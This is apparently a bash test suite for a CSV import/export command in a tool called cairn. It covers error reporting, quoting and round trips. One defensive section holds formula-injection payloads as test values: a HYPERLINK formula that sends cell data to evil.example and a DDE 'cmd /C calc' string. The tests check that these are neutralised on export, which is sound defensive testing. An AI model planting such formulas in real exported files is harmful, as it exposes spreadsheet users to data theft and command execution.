#!/bin/bash
# cairn import csv: spreadsheets' CSV in, every bad row reported by line and
# column, nothing imported unless all is valid (or --skip-bad).
. "$(dirname "$0")/lib.sh"

wb="$TMP/demo"
"$CAIRN" demo "$wb" >/dev/null
head0=$(git -C "$wb" rev-parse HEAD)

printf 'id,city,country,network,status,start,contact,participants\r\n' > "$TMP/p.csv"
printf 'lisbon,Lisbon,Portugal,eurocities,candidate,01/04/2016,city-1,\r\n' >> "$TMP/p.csv"
printf '"gent","Gent, ""the city""",Belgium,polis,selected,31/02/2016,,40\r\n' >> "$TMP/p.csv"
printf 'bad,Bad,X,nonsense,candidate,,,\r\n' >> "$TMP/p.csv"
printf 'ghosttown,Ghost,X,other,candidate,,ghost,\r\n' >> "$TMP/p.csv"
run "$CAIRN" -C "$wb" import csv pilot "$TMP/p.csv"
is "$rc" 1 "bad rows refuse the import"
like "$err" "p.csv:3:6: start: 31/02/2016 is not a date" "a bad date, by line and column"
like "$err" "p.csv:4:4: network: 'nonsense' is not one of" "a bad choice, by line and column"
like "$err" "nothing was imported" "and says nothing was imported"
is "$(git -C "$wb" rev-parse HEAD)" "$head0" "no commit was made"
run "$CAIRN" -C "$wb" show pilot/lisbon
is "$rc" 1 "not even the good rows"

run "$CAIRN" -C "$wb" import csv pilot "$TMP/p.csv" --skip-bad
is "$rc" 0 "--skip-bad imports the good rows"
like "$err" "p.csv:5:7: pilot/ghosttown: contact: .*ghost" "a person who does not exist is found by the save, by line and column"
like "$out" "imported 1 record from .*p.csv \\(3 bad rows skipped\\)" "and says what it skipped"
run "$CAIRN" -C "$wb" show pilot/lisbon --json
like "$out" '"start": "2016-04-01"' "dates typed as dd/mm/yyyy are stored ISO"
is "$(git -C "$wb" log -1 --format=%s)" "Import 1 pilots from $TMP/p.csv" "as one commit"

# Rows only the whole workbook can refuse (a person who does not exist):
# the save names the row, each one is reported, and the good rows go in
# as one commit with --skip-bad, or nothing at all without it.
printf 'id,city,country,network,status,contact\n' > "$TMP/g.csv"
printf 'ghost1,G1,X,other,candidate,nobody-1\n' >> "$TMP/g.csv"
printf 'fine1,F1,X,other,candidate,\n' >> "$TMP/g.csv"
printf 'ghost2,G2,X,other,candidate,nobody-2\n' >> "$TMP/g.csv"
head1=$(git -C "$wb" rev-parse HEAD)
run "$CAIRN" -C "$wb" import csv pilot "$TMP/g.csv"
is "$rc" 1 "a row the save refuses refuses the import"
like "$err" "g.csv:2:6: pilot/ghost1: contact: .*nobody-1" "the save's refusal names the row and column"
like "$err" "g.csv: nothing was imported \\(fix the row" "and says nothing was imported"
is "$(git -C "$wb" rev-parse HEAD)" "$head1" "no commit was made"
run "$CAIRN" -C "$wb" import csv pilot "$TMP/g.csv" --skip-bad
is "$rc" 0 "--skip-bad past rows the save refuses"
like "$err" "g.csv:2:6: pilot/ghost1: contact" "the first refused row is reported"
like "$err" "g.csv:4:6: pilot/ghost2: contact" "and the second"
like "$out" "imported 1 record from .*g.csv \\(2 bad rows skipped\\)" "the good row is imported"
is "$(git -C "$wb" log -1 --format=%s)" "Import 1 pilots from $TMP/g.csv" "as one commit"
is "$(git -C "$wb" rev-list --count "$head1"..HEAD)" "1" "and only one"

# What a successful import prints: one line for the commit, its subject.
printf 'id,title\nT71,Seventy-one\nT72,Seventy-two\n' > "$TMP/t.csv"
run "$CAIRN" -C "$wb" import csv task "$TMP/t.csv"
like "$out" "saved [0-9a-f]{12}  Import 2 tasks from .*t.csv$" "the commit line is the subject alone"
unlike "$out" "\\^J" "with no line feed shown as ^J"
# The same id twice: the save names the second row.
printf 'id,title\nT73,A\nT74,B\nT73,C\n' > "$TMP/d.csv"
run "$CAIRN" -C "$wb" import csv task "$TMP/d.csv"
is "$rc" 1 "an id twice refuses the import"
like "$err" "d.csv:4: task/T73 appears twice in one change" "the second row is named, by line"
run "$CAIRN" -C "$wb" show task/T74
is "$rc" 1 "and nothing was imported"
run "$CAIRN" -C "$wb" import csv task "$TMP/d.csv" --skip-bad
is "$rc" 0 "--skip-bad imports the rows before the repeated one"
like "$("$CAIRN" -C "$wb" show task/T73)" "title +A" "the first of the two is kept"

# Quoted cells with commas, quotes and line breaks; a BOM; ';' as separator.
printf '\xef\xbb\xbfid;city;status;results\r\nporto;"Porto; Portugal";candidate;"first line\r\nsecond ""line"""\r\n' > "$TMP/q.csv"
run "$CAIRN" -C "$wb" import csv pilot "$TMP/q.csv"
is "$rc" 0 "a spreadsheet's CSV with a BOM and ';'"
run "$CAIRN" -C "$wb" show pilot/porto --json
like "$out" '"city": "Porto; Portugal"' "a separator inside quotes stays"
like "$out" '"results": "first line\\nsecond \\"line\\""' "line breaks and doubled quotes survive"

# What export writes, import reads: a round trip through a spreadsheet.
"$CAIRN" -C "$wb" export csv person > "$TMP/persons.csv"
PY=/usr/bin/python3
[ -x "$PY" ] || PY=python3
"$PY" - "$TMP/persons.csv" <<'PY'
import csv, sys
path = sys.argv[1]
rows = list(csv.DictReader(open(path, newline="", encoding="utf-8")))
for r in rows:
    if r["id"] == "bwg-1":
        r["name"] = "Ana Lima"
        r["email"] = "ana@example.org"
with open(path, "w", newline="", encoding="utf-8") as f:
    w = csv.DictWriter(f, fieldnames=list(rows[0].keys()))
    w.writeheader()
    w.writerows(rows)
PY
run "$CAIRN" -C "$wb" import csv person "$TMP/persons.csv"
is "$rc" 0 "an exported list, edited and imported back"
like "$("$CAIRN" -C "$wb" show person/bwg-1)" "name +Ana Lima" "changes the edited person"
is "$(git -C "$wb" show --stat --format= HEAD | grep -c persons/)" "1" "and only that one"

# Formula injection: a hostile peer's value that a spreadsheet would run
# goes out behind an apostrophe, and comes back in byte for byte.
fw=$(new_workbook)
i=0
while IFS= read -r v; do
	i=$((i + 1))
	"$CAIRN" -C "$fw" add pilot "f$i" city="$v" country=X network=other status=candidate >/dev/null ||
		fail "add pilot/f$i ($v)"
done <<'VALUES'
=HYPERLINK("http://evil.example/?"&A1,"click")
+1+cmd|' /C calc'!A0
-2+3
@SUM(A1:A9)
'=already marked
''=twice
'plain apostrophe
-3
+1.5
-
VALUES
"$CAIRN" -C "$fw" export csv pilot > "$TMP/f.csv"
like "$(cat "$TMP/f.csv")" "\"'=HYPERLINK\(" "=... is written behind an apostrophe"
like "$(cat "$TMP/f.csv")" ",'\+1\+cmd" "+... that is no number too"
like "$(cat "$TMP/f.csv")" ",'-2\+3," "-... that is no number too"
like "$(cat "$TMP/f.csv")" ",'@SUM" "@... too"
like "$(cat "$TMP/f.csv")" ",''=already marked," "a value that starts with an apostrophe and a formula gets one more"
like "$(cat "$TMP/f.csv")" ",'plain apostrophe," "an apostrophe before plain text is left as it is"
like "$(cat "$TMP/f.csv")" ",-3," "a negative number is left as it is"
like "$(cat "$TMP/f.csv")" ",\+1.5," "and so is a signed decimal"
before=$("$CAIRN" -C "$fw" ls pilot --json)
head_f=$(git -C "$fw" rev-parse HEAD)
run "$CAIRN" -C "$fw" import csv pilot "$TMP/f.csv"
is "$rc" 0 "the export imports back"
like "$out" "unchanged 10" "and every row is unchanged: the marks came off"
is "$(git -C "$fw" rev-parse HEAD)" "$head_f" "no commit"
fw2=$(new_workbook)
run "$CAIRN" -C "$fw2" import csv pilot "$TMP/f.csv"
is "$rc" 0 "into another workbook"
is "$("$CAIRN" -C "$fw2" ls pilot --json)" "$before" "where every value is the same, byte for byte"

# Structure errors.
printf 'id,colour\nx,red\n' > "$TMP/h.csv"
run "$CAIRN" -C "$wb" import csv pilot "$TMP/h.csv"
like "$err" "h.csv:1:2: 'colour' is not a field of pilot" "an unknown column, by line and column"
printf 'id,city\nx,"Lisbon\n' > "$TMP/u.csv"
run "$CAIRN" -C "$wb" import csv pilot "$TMP/u.csv"
like "$err" "u.csv:2:3: this quoted cell is never closed" "an unclosed quote, where it opens"
printf 'id,city\nx,Lis"bon\n' > "$TMP/v.csv"
run "$CAIRN" -C "$wb" import csv pilot "$TMP/v.csv"
like "$err" "v.csv:2:6: a quote inside an unquoted cell" "a stray quote, where it is"
printf 'city\nLisbon\n' > "$TMP/n.csv"
run "$CAIRN" -C "$wb" import csv pilot "$TMP/n.csv"
like "$err" "no 'id' column" "no id column"
printf 'id,city\nx,Lisbon,extra\n' > "$TMP/w.csv"
run "$CAIRN" -C "$wb" import csv pilot "$TMP/w.csv"
like "$err" "w.csv:2: 3 cells where the header has 2" "a row of the wrong width"
done_testing
